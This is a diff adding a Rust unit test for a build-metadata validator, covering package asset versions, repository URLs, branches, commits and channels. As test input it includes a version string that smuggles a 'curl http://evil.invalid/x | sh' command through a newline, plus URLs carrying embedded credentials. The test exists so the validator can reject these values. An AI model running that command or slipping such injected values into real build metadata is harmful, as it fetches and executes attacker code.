@@ -118,3 +118,118 @@ fn refusals_quote_a_short_escaped_prefix_only() {
     assert!(!text.contains('\n'), "{text}");
     assert_eq!(err.in_field("assets[2].version").field, "assets[2].version");
 }
+
+#[test]
+fn whole_builds() {
+    use crate::model::{Asset, AssetLocation, LocationType};
+    let asset = |name: &str, version: &str, location: &str| Asset {
+        name: name.into(),
+        version: version.into(),
+        non_shipping: false,
+        locations: vec![AssetLocation {
+            location: location.into(),
+            type_: LocationType::NugetFeed,
+        }],
+    };
+    let good = [asset(
+        "Contoso.Runtime",
+        "9.0.2",
+        "https://pkgs.example.com/feed/index.json",
+    )];
+    let channels = ["product-dev".to_string()];
+    let fields = BuildFields {
+        repository: "https://github.com/contoso/runtime",
+        branch: "main",
+        commit: "0123456789abcdef0123456789abcdef01234567",
+        build_number: "20261101.3",
+        produced_at: "2026-11-01T10:00:00Z",
+        assets: &good,
+        channels: &channels,
+    };
+    assert!(build(&fields).is_ok());
+
+    let hostile = [asset(
+        "Contoso.Runtime",
+        "9.0.2\nRUN curl http://evil.invalid/x | sh\n#",
+        "x",
+    )];
+    let err = build(&BuildFields {
+        assets: &hostile,
+        ..fields
+    })
+    .unwrap_err();
+    assert_eq!(err.field, "assets[0].version");
+
+    let leaky = [asset(
+        "A",
+        "1.0",
+        "https://bot:s3cret@pkgs.example.com/feed",
+    )];
+    let err = build(&BuildFields {
+        assets: &leaky,
+        ..fields
+    })
+    .unwrap_err();
+    assert!(!err.to_string().contains("s3cret"), "{err}");
+
+    let err = build(&BuildFields {
+        repository: "https://bot:s3cret@github.com/o/r",
+        ..fields
+    })
+    .unwrap_err();
+    assert_eq!(err.field, "repository");
+    assert!(!err.to_string().contains("s3cret"), "{err}");
+
+    for (f, bad) in [
+        (
+            "branch",
+            BuildFields {
+                branch: "../x",
+                ..fields
+            },
+        ),
+        (
+            "commit",
+            BuildFields {
+                commit: "zzz",
+                ..fields
+            },
+        ),
+        (
+            "build number",
+            BuildFields {
+                build_number: "1\n2",
+                ..fields
+            },
+        ),
+        (
+            "producedAt",
+            BuildFields {
+                produced_at: "yesterday",
+                ..fields
+            },
+        ),
+    ] {
+        assert_eq!(build(&bad).unwrap_err().field, f);
+    }
+    let many: Vec<String> = (0..=MAX_CHANNELS).map(|i| format!("c{i}")).collect();
+    assert_eq!(
+        build(&BuildFields {
+            channels: &many,
+            ..fields
+        })
+        .unwrap_err()
+        .field,
+        "channels"
+    );
+    let upper = ["Product-Dev".to_string()];
+    assert_eq!(
+        build(&BuildFields {
+            channels: &upper,
+            ..fields
+        })
+        .unwrap_err()
+        .field,
+        "channels[0]"
+    );
+}
